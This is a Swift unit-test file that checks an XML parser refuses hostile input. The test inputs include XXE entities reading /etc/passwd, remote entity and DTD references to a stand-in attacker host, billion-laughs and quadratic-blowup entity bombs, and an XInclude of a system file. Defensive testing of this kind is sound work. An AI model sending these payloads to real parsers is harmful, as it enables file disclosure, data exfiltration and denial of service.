import StadtbusXML
import XCTest

/// Hostile and broken inputs: each must produce its specific error — never a crash, a hang,
/// a file read or a network request.
final class HostileInputTests: XCTestCase {
    private func refusal(_ xml: String, limits: XMLParseLimits = .default) -> XMLError? {
        refusal(Array(xml.utf8), limits: limits)
    }

    private func refusal(_ bytes: [UInt8], limits: XMLParseLimits = .default) -> XMLError? {
        do {
            _ = try XMLDocument(parsing: bytes, limits: limits)
            return nil
        } catch {
            return error as? XMLError
        }
    }

    func testXXEFileEntityIsRefusedAtTheDoctype() {
        let xml = """
            <?xml version="1.0"?>
            <!DOCTYPE antrag [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
            <antrag>&secret;</antrag>
            """
        XCTAssertEqual(refusal(xml), .doctypeForbidden(line: 2))
    }

    func testXXENetworkEntityAndExternalDTDAreRefused() {
        let entity = """
            <!DOCTYPE a [ <!ENTITY remote SYSTEM "http://attacker.example.invalid/x"> ]><a>&remote;</a>
            """
        XCTAssertEqual(refusal(entity), .doctypeForbidden(line: 1))
        let externalDTD = #"<!DOCTYPE a SYSTEM "http://attacker.example.invalid/evil.dtd"><a/>"#
        XCTAssertEqual(refusal(externalDTD), .doctypeForbidden(line: 1))
        let parameterEntity = """
            <!DOCTYPE a [ <!ENTITY % p SYSTEM "http://attacker.example.invalid/p.dtd"> %p; ]><a/>
            """
        XCTAssertEqual(refusal(parameterEntity), .doctypeForbidden(line: 1))
    }

    func testBillionLaughsIsRefused() {
        var entities = #"<!ENTITY lol0 "lol">"#
        for level in 1...9 {
            entities += "<!ENTITY lol\(level) \"" + String(repeating: "&lol\(level - 1);", count: 10) + "\">"
        }
        let xml = "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\(entities)]>\n<lolz>&lol9;</lolz>"
        XCTAssertEqual(refusal(xml), .doctypeForbidden(line: 2))
    }

    func testQuadraticBlowupIsRefused() {
        let big = String(repeating: "A", count: 50_000)
        let references = String(repeating: "&a;", count: 50_000)
        let xml = "<!DOCTYPE q [<!ENTITY a \"\(big)\">]><q>\(references)</q>"
        XCTAssertEqual(refusal(xml), .doctypeForbidden(line: 1))
    }

    func testFiftyMegabyteDocumentIsRefusedBeforeParsing() {
        let filler = [UInt8](repeating: UInt8(ascii: "x"), count: 50 * 1024 * 1024)
        let document = Array("<a>".utf8) + filler + Array("</a>".utf8)
        XCTAssertEqual(refusal(document), .documentTooLarge(bytes: document.count, limit: 16 * 1024 * 1024))
    }

    func testFiftyMegabyteDocumentParsesWhenTheLimitAllowsIt() throws {
        // Many small elements: a large but legitimate document under a raised limit.
        let record = Array("<eintrag><id>123456</id><wert>Trinkwasser</wert></eintrag>\n".utf8)
        var bytes = Array("<liste>".utf8)
        bytes.reserveCapacity(51 * 1024 * 1024)
        while bytes.count < 50 * 1024 * 1024 { bytes += record }
        bytes += Array("</liste>".utf8)
        let document = try XMLDocument(
            parsing: bytes, limits: XMLParseLimits(maxBytes: 64 * 1024 * 1024, maxNodes: 3_000_000))
        XCTAssertEqual(document.rootName, "liste")
    }

    func testDeepNestingIsRefused() {
        // Below the node limit, so the depth limit is what refuses it.
        let depth = 40_000
        let xml = String(repeating: "<a>", count: depth) + String(repeating: "</a>", count: depth)
        XCTAssertEqual(refusal(xml), .tooDeeplyNested(limit: 128, line: 1))
        let shallow = String(repeating: "<a>", count: 20) + String(repeating: "</a>", count: 20)
        XCTAssertEqual(refusal(shallow, limits: XMLParseLimits(maxDepth: 10)), .tooDeeplyNested(limit: 10, line: 1))
        XCTAssertNil(refusal(shallow, limits: XMLParseLimits(maxDepth: 20)))
    }

    func testInvalidUTF8IsAnEncodingError() {
        let bytes: [UInt8] =
            Array("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<a>".utf8) + [0xC3, 0x28, 0xFF] + Array("</a>".utf8)
        guard case .invalidEncoding(_, let line, _)? = refusal(bytes) else {
            return XCTFail("expected an encoding error, got \(String(describing: refusal(bytes)))")
        }
        XCTAssertEqual(line, 2)
    }

    func testMalformedXMLReportsLineAndColumn() {
        let xml = "<a>\n  <b>\n</a>"
        guard case .malformed(let message, let line, let column)? = refusal(xml) else {
            return XCTFail("expected malformed, got \(String(describing: refusal(xml)))")
        }
        XCTAssertEqual(line, 3)
        XCTAssertGreaterThan(column, 0)
        XCTAssertTrue(message.contains("mismatch"), message)
    }

    func testEmptyAndGarbageInput() {
        XCTAssertEqual(refusal([UInt8]()), .emptyDocument)
        guard case .malformed? = refusal("this is not xml") else { return XCTFail() }
        guard case .malformed? = refusal([0x00, 0x01, 0x02, 0x03]) else { return XCTFail() }
    }

    func testXIncludeIsNotProcessed() throws {
        let xml = """
            <a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></a>
            """
        let document = try XMLDocument(parsing: xml)
        XCTAssertFalse(try document.serializedString().contains("root:"))
    }
}
